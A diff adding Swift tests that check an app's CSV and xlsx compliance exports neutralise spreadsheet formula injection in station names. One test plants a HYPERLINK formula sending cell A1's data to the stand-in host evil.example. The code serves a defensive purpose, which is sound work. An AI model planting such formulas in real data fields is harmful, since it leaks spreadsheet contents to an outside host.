@@ -107,6 +107,43 @@ struct ComplianceApiTests {
         }
     }
 
+    @Test func exportsKeepAFormulaInAStationNameAsText() async throws {
+        try await withApp { world in
+            // setup: a station whose name a spreadsheet would run as a formula
+            let name = #"=HYPERLINK("http://evil.example/?d="&A1,"点击")"#
+            let admin = try await world.token("admin")
+            let patch = try await world.api(.PATCH, "/api/v1/stations/\(world.id("station:解放路街道"))", token: admin, json: ["name": name])
+            #expect(patch.status == .ok, "\(patch.body.string)")
+            let browser = Browser(world)
+            _ = try await browser.login("lixia")
+            // act
+            let csv = try await browser.get("/compliance/export.csv").body.string
+            let xlsx = try await browser.get("/compliance/export.xlsx")
+            // check: CSV (quoted because of the commas and quotes) and xlsx both start the cell with a quote
+            #expect(csv.contains(#"历下区,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")","#), "\(csv)")
+            #expect(!csv.contains(#","=HYPERLINK"#) && !csv.contains("\n=HYPERLINK"))
+            let archive = try Archive(data: Data(buffer: xlsx.body), accessMode: .read)
+            var xml = Data()
+            _ = try archive.extract(try #require(archive["xl/worksheets/sheet1.xml"])) { xml.append($0) }
+            let sheet = String(decoding: xml, as: UTF8.self)
+            #expect(sheet.contains("<t>'=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1,&quot;点击&quot;)</t>"), "\(sheet)")
+            #expect(!sheet.contains("<t>=HYPERLINK"))
+            // the counts stay numeric cells
+            #expect(sheet.contains(#"<c r="C2"><v>"#))
+        }
+    }
+
+    @Test func formulaLeadersAreNeutralisedInTextCellsOnly() {
+        for text in ["=1+1", "+8613912345678", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            #expect(Spreadsheet.neutralised(text) == "'" + text)
+        }
+        for text in ["", "a=b", "历下区", "'=quoted"] {
+            #expect(Spreadsheet.neutralised(text) == text)
+        }
+        let csv = String(decoding: Spreadsheet(sheetName: "t", rows: [[.number(-3), .text("-3")]]).csv(), as: UTF8.self)
+        #expect(csv == "\u{FEFF}-3,'-3\r\n")
+    }
+
     @Test func parameterChangesAreVersionedByEffectiveDate() async throws {
         try await withApp { world in
             // setup: the day is mid-2026, so that 1 January 2026 is a backdated change within the year
